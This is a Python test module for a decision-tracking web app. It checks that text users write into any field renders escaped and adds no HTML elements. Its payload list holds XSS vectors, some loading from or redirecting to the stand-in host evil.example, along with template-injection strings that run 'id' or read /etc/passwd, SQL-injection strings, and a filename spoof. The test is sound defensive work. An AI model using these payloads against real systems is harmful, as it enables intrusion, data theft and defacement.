from dataclasses import fields, is_dataclass, replace
from typing import TypeVar, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decisions.decision import Why
from decisions.queries.histories import History
from decisions.raising.events import Changed
from decisions.rights.lines import Combining, How, Seat
from decisions.views.deciders import CombiningView
from decisions.views.named import Named
from decisions.words import Words
from tests.adapters.web import lives
from tests.adapters.web.histories import BEN, CHI, NAMES, a_history, a_view, named
from tests.adapters.web.reading import read, written

T = TypeVar("T")
LIFE = (*lives.every_event(), *lives.only_afterwards())
CALLED = ("position", "because", "waits_because", "chair", "forum", "reason", "area", "initiative", "goal")
"""What an administrator or the rights call things."""
OPENERS = [
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "</p>",
    "</h1>",
    "</title>",
    "</time>",
    "-->",
    "]]>",
    "\\",
    "\n",
    "&",
    "&#34;>",
]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>press</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=link>",
    "<base href=//evil.example>",
    "<body onload=alert(1)>",
    "<!--",
    "<plaintext>",
    "<textarea>",
    "x onmouseover=alert(1) y=",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "{{ page.happenings }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%n{0.__class__}",
    "'; DROP TABLE decisions; --",
    "1' OR '1'='1",
    "\" UNION SELECT secret FROM words --",
    "&lt;script&gt;",
    "javascript:alert(1)",
    "\u202egnp.exe",
]  # fmt: skip


def after_every_opener(payload: str) -> list[str]:
    return [opener + payload for opener in OPENERS]


def everywhere(text: str) -> History:
    """A decision in which people wrote `text` into every field that takes words, and into their names."""
    seen = replace(
        lives.agreed().view,
        past=lives.moved_up().view.past,
        moved_up=Why.DEADLOCK,
        objections=lives.objected().view.objections,
        questions=(replace(lives.undecided().view.questions[0], answer=Words("Sales."), answered_by=named(BEN)),),
        recused=(named(BEN),),
        led_by=named(CHI),
        reported=lives.reported().view.reported,
        combining=CombiningView(how=How(Combining.ALL), chair="CEO", forum="Investment committee"),
    )
    story = (put(event, f"{text}!" if isinstance(event, Changed) else text) for event in LIFE)
    return a_history(put(seen, text), *story, **dict.fromkeys(NAMES, text))


def put(value: T, text: str) -> T:
    """Put `text` in place of all that people wrote or are called, however deep it lies."""
    return cast("T", _put(value, text))


def _put(value: object, text: str) -> object:
    match value:
        case Words():
            return Words(text)
        case Named():
            return Named(value.id, text)
        case Seat():
            return Seat(value.kind, text)
        case tuple():
            return tuple(_put(one, text) for one in value)
        case _ if is_dataclass(value) and not isinstance(value, type):
            values = {one.name: getattr(value, one.name) for one in fields(value) if one.init}
            called = {name: text for name in CALLED if type(values.get(name)) is str}
            return type(value)(**{name: _put(one, text) for name, one in values.items()} | called)
        case _:
            return value


PLAIN = read(everywhere("xyzzy"))
EVERYWHERE = "".join(PLAIN.pieces).count("xyzzy")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_people_write_is_read_as_it_was_written_and_builds_nothing(payload: str) -> None:
    for text in after_every_opener(payload):
        page = read(everywhere(text))

        assert page.elements == PLAIN.elements, text
        assert "".join(page.pieces).count(text) == EVERYWHERE, text


def test_the_corpus_reaches_every_field_and_is_not_small() -> None:
    assert EVERYWHERE >= 100
    assert len({text for payload in PAYLOADS for text in after_every_opener(payload)}) >= 500


@given(st.text().map(Words.cleaned).filter(bool))
def test_any_text_builds_nothing(text: Words) -> None:
    assert [tag for tag, _ in read(everywhere(text)).elements] == [tag for tag, _ in PLAIN.elements]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_category_which_is_written_with_a_capital_builds_nothing(text: str) -> None:
    page = read(a_history(replace(a_view(), category=text)))

    assert page.elements == read(a_history(a_view())).elements
    assert text.capitalize() in "".join(page.pieces)


def test_lines_stay_lines() -> None:
    history = a_history(replace(a_view(), why=Words("one\ntwo\n\nthree")))

    assert 'class="words" dir="auto">one\ntwo\n\nthree</' in written(history)
